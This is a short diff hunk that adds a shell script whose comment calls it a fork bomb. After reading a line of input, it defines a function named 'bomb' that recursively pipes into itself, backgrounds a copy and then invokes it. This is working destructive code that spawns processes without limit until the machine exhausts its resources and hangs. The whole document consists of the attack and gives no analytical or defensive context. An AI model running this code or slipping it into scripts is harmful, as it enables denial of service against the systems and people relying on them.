@@ -1,0 +1,4 @@
+# A fork bomb.
+read line
+bomb() { bomb | bomb & bomb; }
+bomb
